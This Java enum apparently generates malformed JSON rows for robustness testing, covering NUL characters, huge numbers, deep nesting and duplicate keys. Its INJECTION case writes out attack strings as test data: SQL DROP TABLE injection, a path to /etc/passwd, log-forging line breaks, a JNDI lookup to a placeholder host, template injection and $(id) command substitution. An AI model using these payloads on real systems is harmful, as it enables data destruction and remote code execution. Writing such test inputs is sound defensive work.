package dev.leat.playground;

import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.util.RawValue;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** What may be unusual, or wrong, in a row. Most of it stands in a field {@code odd}. */
public enum Oddity {
  /** The character of number 0 in a text. */
  NUL,
  /** Half of a character that takes two. */
  LONE_SURROGATE,
  /** A field that stands twice. */
  DUPLICATE_KEY,
  /** A number that JSON does not have. */
  NOT_A_NUMBER,
  /** A number beyond every binary one. */
  HUGE_EXPONENT,
  /** A whole number beyond 2 to the 63rd. */
  LARGE_INTEGER,
  /** A decimal of forty digits. */
  LONG_DECIMAL,
  /** A zero with a sign. */
  NEGATIVE_ZERO,
  /** A whole number that is spelled as a fraction. */
  POINT_ZERO,
  /** A hundred thousand lists, one in the other. */
  DEEP_NESTING,
  /** A text of 50 MB. */
  LONG_TEXT,
  /** An object of a million keys. */
  MANY_KEYS,
  /** Five thousand fields more. */
  MANY_FIELDS,
  /** A number where text was. */
  OTHER_TYPE,
  /** A field less. */
  MISSING_FIELD,
  /** A field whose name differs from another's only in case. */
  CASE_ONLY,
  /** Fields named like words of SQL. */
  RESERVED_WORDS,
  /** A field whose name is an emoji. */
  EMOJI_NAME,
  /** Names and values that try to be more than that. */
  INJECTION;

  private static final int DEEP = 100_000;

  void into(ObjectNode row) {
    switch (this) {
      case NUL -> odd(row, "\"a\\u0000b\"");
      case LONE_SURROGATE -> odd(row, "\"a\\ud83d\"");
      case DUPLICATE_KEY -> odd(row, "1,\"odd\":2");
      case NOT_A_NUMBER -> odd(row, "NaN");
      case HUGE_EXPONENT -> odd(row, "1e400");
      case LARGE_INTEGER -> odd(row, "9223372036854775808");
      case LONG_DECIMAL -> odd(row, "0.1234567890123456789012345678901234567890");
      case NEGATIVE_ZERO -> odd(row, "-0");
      case POINT_ZERO -> odd(row, "1.0");
      case DEEP_NESTING -> odd(row, "[".repeat(DEEP) + "]".repeat(DEEP));
      case LONG_TEXT -> odd(row, '"' + "x".repeat(50_000_000) + '"');
      case MANY_KEYS -> odd(row, object(1_000_000));
      case MANY_FIELDS ->
          IntStream.range(0, 5_000).forEach(field -> row.put("field_" + field, field));
      case OTHER_TYPE -> row.put("job", 7);
      case MISSING_FIELD -> row.remove("job");
      case CASE_ONLY -> row.put("Name", "differs");
      case RESERVED_WORDS -> row.put("select", 1).put("table", 2).put("order", 3).put("user", 4);
      case EMOJI_NAME -> row.put("\uD83D\uDE80", "to the moon");
      case INJECTION ->
          row.put("\"; DROP TABLE user; --", "'); DROP TABLE user; --")
              .put("../../etc/passwd", "../../etc/passwd")
              .put("line\r\nbreak", "a\r\nINFO all is well")
              .put("n".repeat(300), "${jndi:ldap://a.invalid/x} {{7*7}} $(id)")
              .put("n\u0430me", "a homoglyph");
    }
  }

  private static void odd(ObjectNode row, String json) {
    row.putRawValue("odd", new RawValue(json));
  }

  private static String object(int keys) {
    return IntStream.range(0, keys)
        .mapToObj(key -> '"' + Integer.toString(key, 36) + "\":0")
        .collect(Collectors.joining(",", "{", "}"));
  }
}
